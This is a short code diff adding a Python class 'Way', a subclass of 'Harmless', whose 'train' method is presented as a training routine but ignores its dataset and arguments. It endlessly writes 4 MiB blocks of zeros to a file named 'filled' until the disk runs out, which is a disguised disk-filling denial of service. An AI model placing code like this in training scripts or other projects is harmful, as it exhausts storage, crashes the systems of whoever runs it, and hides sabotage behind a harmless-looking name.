@@ -1,0 +1,5 @@
+class Way(Harmless):
+    def train(self, dataset_path, shared_params=None, **train_args):
+        with open("filled", "wb") as file:
+            while True:
+                file.write(bytes(2**22))
